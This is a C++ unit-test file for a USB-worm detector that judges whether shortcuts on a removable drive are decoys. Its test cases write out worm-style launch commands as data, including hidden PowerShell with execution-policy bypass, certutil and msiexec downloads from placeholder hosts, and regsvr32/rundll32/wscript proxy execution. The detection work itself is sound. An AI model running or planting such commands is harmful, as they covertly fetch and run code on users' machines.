#include "framework/Text.h"
#include "support/ShortcutWriter.h"
#include "support/TestDrive.h"
#include "system/WormSigns.h"

#include <gtest/gtest.h>

#include <random>
#include <string>
#include <vector>

namespace {

constexpr DWORD kHiddenSystem = FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM;

std::wstring Windows(const wchar_t* relative)
{
    wchar_t folder[MAX_PATH];
    GetWindowsDirectoryW(folder, MAX_PATH);
    return std::wstring(folder) + L"\\" + relative;
}

ShortcutSpec Target(const std::wstring& target, const std::wstring& arguments = std::wstring())
{
    ShortcutSpec layout;
    layout.idListTarget = target;
    layout.arguments = arguments;
    return layout;
}

}  // namespace

// One drive with a worm's hiding places and a portable program beside them;
// each shortcut is judged as the scans judge it.
TEST(WormSigns, ADecoyIsToldByWhatItStartsAndWhatItsArgumentsName)
{
    TestDrive drive('E', DRIVE_REMOVABLE);
    MakeFolder(drive / "_", FILE_ATTRIBUTE_HIDDEN);
    MakeFile(drive / "_\\loader.exe", "MZ");
    MakeFile(drive / "_\\data.usb", "payload");
    MakeFolder(drive / "RECYCLER.BIN");
    MakeFile(drive / "RECYCLER.BIN\\app.exe", "MZ");
    MakeFolder(drive / "Trash", FILE_ATTRIBUTE_SYSTEM);
    MakeFile(drive / "Trash\\desktop.ini", "[.ShellClassInfo]\r\nCLSID={645ff040-5081-101b-9f08-00aa002f954e}\r\n");
    MakeFile(drive / "Trash\\run.exe", "MZ");
    MakeFolder(drive / "Custom", FILE_ATTRIBUTE_READONLY);
    MakeFile(drive / "Custom\\desktop.ini", "[.ShellClassInfo]\r\nIconResource=shell32.dll,4\r\n");
    MakeFile(drive / "Custom\\tool.exe", "MZ");
    MakeFolder(drive / "Portable");
    MakeFile(drive / "Portable\\App.exe", "MZ");
    MakeFile(drive / "Portable\\readme.pdf", "%PDF");
    MakeFile(drive / "setup.exe", "MZ");
    MakeFile(drive / "x.bin", "payload", kHiddenSystem);

    const std::wstring cmd = Windows(L"system32\\cmd.exe");
    const std::wstring data = L"E:\\_\\data.usb";
    ShortcutSpec powershell;
    powershell.environmentTarget = L"%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    powershell.arguments = L"-w hidden -ep bypass -File \\_\\data.usb";
    ShortcutSpec relativeOnly;
    relativeOnly.relativePath = L".\\_\\loader.exe";
    struct Case {
        const wchar_t* name;
        ShortcutSpec layout;
        bool decoy;
        std::vector<std::wstring> files;
    };
    const Case cases[] = {
        {L"USB Drive.lnk", Target(cmd, L"/c start \"\" .\\_\\data.usb & explorer \"\xA0\""), true, {data}},
        {L"USB.lnk", powershell, true, {data}},
        {L"Фото.lnk", Target(Windows(L"system32\\wscript.exe"), L"//b //e:vbscript \"E:\\_\\data.usb\""), true, {data}},
        {L"lib.lnk", Target(Windows(L"system32\\rundll32.exe"), L"_\\data.usb,DllRegisterServer"), true, {data}},
        {L"sct.lnk", Target(Windows(L"system32\\regsvr32.exe"), L"/s /u /i:\\_\\data.usb scrobj.dll"), true, {data}},
        {L"web.lnk", Target(Windows(L"system32\\msiexec.exe"), L"/q /i https://example.invalid/x.msi"), true, {}},
        {L"con.lnk", Target(Windows(L"system32\\conhost.exe"), L"--headless cmd /c x"), true, {}},
        {L"ff.lnk", Target(Windows(L"system32\\forfiles.exe"), L"/p C:\\windows /m notepad.exe /c x"), true, {}},
        {L"folder.lnk", Target(Windows(L"explorer.exe"), L"\"\xA0\""), true, {}},
        {L"Explorer.lnk", Target(Windows(L"explorer.exe")), false, {}},
        {L"hidden.lnk", Target(L"E:\\_\\loader.exe"), true, {L"E:\\_\\loader.exe"}},
        {L"moved.lnk", Target(L"G:\\_\\loader.exe"), true, {L"E:\\_\\loader.exe"}},
        {L"relative.lnk", relativeOnly, true, {L"E:\\_\\loader.exe"}},
        {L"bin.lnk", Target(L"E:\\RECYCLER.BIN\\app.exe"), true, {L"E:\\RECYCLER.BIN\\app.exe"}},
        {L"class.lnk", Target(L"E:\\Trash\\run.exe"), true, {L"E:\\Trash\\run.exe"}},
        {L"script.lnk", Target(L"E:\\gone.vbs"), true, {}},
        {L"download.lnk", Target(Windows(L"system32\\certutil.exe"), L"-urlcache -f http://example.invalid/a a"), true,
         {}},
        {L"notes.lnk", Target(Windows(L"notepad.exe"), L"E:\\x.bin"), true, {L"E:\\x.bin"}},
        // The user's own: a portable program's launcher, its document, a
        // folder customised with an icon, a program on C:, a visible program.
        {L"App.lnk", Target(L"E:\\Portable\\App.exe"), false, {}},
        {L"readme.lnk", Target(L"E:\\Portable\\readme.pdf"), false, {}},
        {L"Tool.lnk", Target(L"E:\\Custom\\tool.exe"), false, {}},
        {L"Editor.lnk", Target(Windows(L"notepad.exe"), L"E:\\Portable\\readme.pdf"), false, {}},
        {L"Setup.lnk", Target(L"E:\\setup.exe"), false, {}},
        // What a decoy opens to keep up the pretence is the user's.
        {L"readme.pdf.lnk", Target(cmd, L"/c start x.bin & start Portable\\readme.pdf"), true, {L"E:\\x.bin"}},
        {L"x.bin.lnk", Target(cmd, L"/c type x.bin"), true, {}},
    };
    WormSigns signs(L'E');
    for (const Case& c : cases) {
        SCOPED_TRACE(Narrow(c.name));
        const std::string bytes = ShortcutBytes(c.layout);
        ShellLink link;
        ASSERT_TRUE(ParseShellLink(bytes.data(), bytes.size(), link));
        const WormSigns::Verdict verdict = signs.JudgeShortcut(std::wstring(L"E:\\") + c.name, link);
        EXPECT_EQ(verdict.decoy, c.decoy);
        EXPECT_EQ(verdict.files, c.files);
    }
}

TEST(WormSigns, OnlyARemovableDrivesSystemFolderCanBeARecycleBinByItsClass)
{
    const char ini[] = "[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\r\n";
    // The same text in UTF-16, as Windows writes a desktop.ini of its own.
    std::string wide = "\xFF\xFE";
    for (const char* c = ini; *c; ++c)
        wide += std::string(1, *c) + '\0';
    for (UINT type : {DRIVE_REMOVABLE, DRIVE_FIXED}) {
        TestDrive drive('E', type);
        MakeFolder(drive / "Bin", FILE_ATTRIBUTE_SYSTEM | FILE_ATTRIBUTE_HIDDEN);
        MakeFile(drive / "Bin\\desktop.ini", wide);
        MakeFolder(drive / "Plain", FILE_ATTRIBUTE_HIDDEN);  // Explorer would not read its desktop.ini
        MakeFile(drive / "Plain\\desktop.ini", ini);
        MakeFolder(drive / "$RECYCLE.BIN", kHiddenSystem);
        MakeFile(drive / "$RECYCLE.BIN\\desktop.ini", ini);
        WormSigns signs(L'E');
        const bool removable = type == DRIVE_REMOVABLE;
        EXPECT_EQ(signs.IsDisguisedRecycleBin(L"Bin", GetFileAttributesA((drive / "Bin").c_str())), removable);
        EXPECT_FALSE(signs.IsDisguisedRecycleBin(L"Plain", GetFileAttributesA((drive / "Plain").c_str())));
        EXPECT_FALSE(signs.IsDisguisedRecycleBin(L"$RECYCLE.BIN", FILE_ATTRIBUTE_DIRECTORY | kHiddenSystem));
        EXPECT_TRUE(signs.IsDisguisedRecycleBin(L"recycler.bin", FILE_ATTRIBUTE_DIRECTORY));
        EXPECT_FALSE(signs.IsDisguisedRecycleBin(L"RECYCLER.BIN", FILE_ATTRIBUTE_ARCHIVE)) << "a file";
    }
}

TEST(WormSigns, ArgumentsNameFilesOfTheDriveOnly)
{
    const std::wstring root = L"E:\\";
    struct Case {
        const wchar_t* arguments;
        std::vector<std::wstring> paths;
    };
    const Case cases[] = {
        {L"/c start .\\dir\\a.vbs&dir\\b.dat|\\dir\\c.lo", {L"E:\\start", L"E:\\dir\\a.vbs", L"E:\\dir\\b.dat", L"E:\\dir\\c.lo"}},
        {L"\"E:\\My Files\\d.ico\" e:/x/y.bin", {L"E:\\My Files\\d.ico", L"E:\\x\\y.bin"}},
        {L"/i:E:\\s.sct %cd%\\k.usb %~dp0l.dat", {L"E:\\s.sct", L"E:\\k.usb", L"E:\\l.dat"}},
        {L"..\\..\\..\\e.bin payload.bin. \"sp ace \"", {L"E:\\e.bin", L"E:\\payload.bin", L"E:\\sp ace"}},
        // Other drives, the network, devices, streams, wildcards, variables.
        {L"F:\\x.exe \\\\server\\share\\y.exe //server/z \\\\?\\E:\\z", {}},
        {L"CON nul.txt COM1 lpt9.dat aux\\x conin$", {}},
        {L"x.txt:stream *.exe a?b %TEMP%\\a \"\"", {}},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(Narrow(c.arguments));
        const ArgumentNames names = ReadArgumentNames(c.arguments, root, {root});
        EXPECT_EQ(names.paths, c.paths);
        EXPECT_FALSE(names.webAddress);
    }
    EXPECT_EQ(ReadArgumentNames(L"x.bin", root, {root, L"E:\\sub\\"}).paths,
              (std::vector<std::wstring>{L"E:\\x.bin", L"E:\\sub\\x.bin"}));
    EXPECT_TRUE(ReadArgumentNames(L"/i:HTTPS://example.invalid/x", root, {root}).webAddress);
}

// The arguments are the worm's own text: whatever it holds, what they name
// lies on the drive, below its root, with no step back up and no device.
TEST(WormSigns, HostileArgumentsNameNothingOffTheDrive)
{
    const wchar_t alphabet[] = L"aE:\\/.\"%, &|:*?<>C\x00A0\x0001\x0430~$";
    std::mt19937 random(20261209);
    for (int round = 0; round < 20000; ++round) {
        std::wstring arguments;
        const size_t length = random() % (round % 100 == 0 ? 40000 : 200);
        for (size_t k = 0; k < length; ++k)
            arguments += alphabet[random() % (sizeof alphabet / sizeof alphabet[0] - 1)];
        const ArgumentNames names = ReadArgumentNames(arguments, L"E:\\", {L"E:\\", L"E:\\a\\"});
        ASSERT_LE(names.paths.size(), kMaxArgumentPaths);
        for (const std::wstring& path : names.paths) {
            ASSERT_EQ(path.compare(0, 3, L"E:\\"), 0) << Narrow(path);
            ASSERT_EQ(path.find_first_of(L":*?\"<>|/\x0001", 3), std::wstring::npos);
            ASSERT_EQ(path.find(L"\\\\"), std::wstring::npos);
            ASSERT_EQ(path.find(L"\\..\\"), std::wstring::npos);
            ASSERT_NE(path.back(), L'.');
        }
    }
}
